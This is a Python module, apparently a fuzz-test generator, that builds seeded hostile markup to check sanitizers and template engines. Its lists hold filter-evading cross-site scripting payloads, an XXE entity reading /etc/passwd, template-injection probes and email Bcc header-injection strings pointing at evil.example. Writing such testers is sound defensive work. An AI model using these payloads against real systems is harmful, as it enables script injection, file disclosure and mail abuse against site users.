"""Hostile markup by grammar: ways to act, written in the ways that get past those who look for words. The same seed gives the same."""

import random
from collections.abc import Sequence

MARK = "xvec"
"""A word in every vector, to find what became of it."""
SUM = "{{7007*7}}"
PRODUCT = "49049"
"""What a template engine would make of `SUM`."""

_TAGS = (
    "script img svg iframe object embed form meta base link style math video audio details marquee body input button template noscript"
    " xmp plaintext isindex applet frameset frame portal select keygen source track textarea title listing comment bgsound layer foo x-y"
    " a p b div table td blockquote cite q mj-raw mj-text mj-include mj-style mj-button mj-image mjml"
).split()
_EVENTS = (
    "onload onerror onclick onmouseover onfocus onblur ontoggle onpointerenter onanimationstart onbegin onscroll oncut onwheel ondrag"
    " onbeforetoggle oncontentvisibilityautostatechange onmessage onpageshow onresize onauxclick"
).split()
_ADDRESSING = (
    "href src srcset action formaction data poster background xlink:href cite longdesc dynsrc lowsrc code codebase content srcdoc ping"
    " manifest profile usemap to from values path css-class"
).split()
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "java\x00script:",
    "\x01javascript:",
    "\u2028javascript:",
    " &#14;javascript:",
    "java&#1;script:",
    "java&amp;#1;script:",
    "&#106;avascript&colon;",
    "&#x6A;avascript&#58;",
    "javascript&NewLine;:",
    "jav&Tab;ascript:",
    "ｊavascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,PHNjcmlwdD4",
    "data:image/svg+xml,",
    "feed:javascript:",
    "view-source:javascript:",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:/\\evil.example/",
    "file:///etc/passwd",
    "blob:https://evil.example/",
    "mhtml:https://evil.example/!",
    "livescript:",
    "about:blank#",
)
_BREAKS = (
    '">',
    "'>",
    "`>",
    "]]>",
    "-->",
    "--!>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</mj-text>",
    "</mj-raw>",
    "</template>",
    "<![CDATA[",
    "<!--",
    "<!-->",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
    "<![endif]-->",
    "<!--[if mso]>",
    "\\u003c",
    "&lt;",
    "&amp;lt;",
    "&#60;",
    "%3C",
    "+ADw-",
    "\u202e",
    "\u200b",
    "\u2066",
    "\ufeff",
    "\x00",
    "\x0b",
    "\x85",
    "\u2029",
    "\U000e0041",
    "",
    "",
    "",
    "",
)
_TEMPLATES = (
    SUM,
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# " + MARK + " #}",
    "{%- raw -%}",
    "${7007*7}",
    "<%= 7007*7 %>",
    "#{7007*7}",
    "{{ config }}",
    "{{ site }}",
    "{{ self.__init__.__globals__ }}",
    "<mj-include path='file:///etc/passwd' />",
    "<mj-raw><script>xvec()</script></mj-raw>",
    "<mj-attributes><mj-all css-class='x' /></mj-attributes>",
    "</mj-text></mj-column></mj-section>",
)
_HEADERS = (
    "\r\nBcc: xvec@evil.example",
    "\nX-Xvec: 1",
    "\r\n\r\n<script>xvec()</script>",
    "=?utf-8?q?xvec=0D=0ABcc:_a@evil.example?=",
    "=?utf-8?b?DQpCY2M6IGFAZXZpbC5leGFtcGxl?=",
    "\u2028Bcc: xvec@evil.example",
    "\x85Bcc: xvec@evil.example",
    "%0d%0aBcc: xvec@evil.example",
    "\x00xvec",
    "\ud800xvec",
    "xvec\U000e0001\U000e0058",
)


def vector(chance: random.Random) -> str:
    """Return something that would act if it came through."""
    kind = chance.random()
    if kind < 0.12:
        return chance.choice(_TEMPLATES)
    if kind < 0.2:
        return chance.choice(_HEADERS)
    break_out = chance.choice(_BREAKS)
    tag = _cased(chance, chance.choice(_TAGS))
    gap = chance.choice((" ", "/", "\t", "\n", "\x0c", "\r\n", " / ", " x=y "))
    parts = [gap.join((f"<{chance.choice(('', '', '', '/', chr(0), ' '))}{tag}", *_attributes(chance)))]
    parts.append(chance.choice((">", ">", ">", "/>", "", "//", ">>")))
    inner = f"{MARK}(1)" if "script" in tag.lower() else MARK
    closing = chance.choice((f"</{tag}>", f"</{tag} >", "", f"</{tag}"))
    text = break_out + "".join(parts) + inner + closing
    return _encoded(chance, text)


def _attributes(chance: random.Random) -> Sequence[str]:
    found = []
    for _ in range(chance.randint(0, 3)):
        quote = chance.choice(('"', "'", "", "`"))
        if chance.random() < 0.5:
            name = _cased(chance, chance.choice(_EVENTS))
            value = f"{MARK}(1)"
        else:
            name = chance.choice(_ADDRESSING)
            value = chance.choice(_SCHEMES) + f"{MARK}(1)"
        if chance.random() < 0.1:
            name, value = (
                "style",
                f"background:url(//evil.example/{MARK});behavior:url(#{MARK});width:expression({MARK}(1))",
            )
        equals = chance.choice(("=", "=", " = ", "=\n"))
        found.append(f"{name}{equals}{quote}{value}{quote}")
    return found


def _cased(chance: random.Random, text: str) -> str:
    return "".join(c.upper() if chance.random() < 0.2 else c for c in text) if chance.random() < 0.4 else text


def _encoded(chance: random.Random, text: str) -> str:
    """Return a text as it is, with some signs as references, or all of it once or twice."""
    kind = chance.random()
    if kind < 0.65:
        return text
    if kind < 0.8:
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if kind < 0.9:
        return "".join(f"&#{ord(c)};" if chance.random() < 0.3 else c for c in text)
    return text.replace("&", "&amp;amp;").replace("<", "&amp;lt;").replace(">", "&amp;gt;")
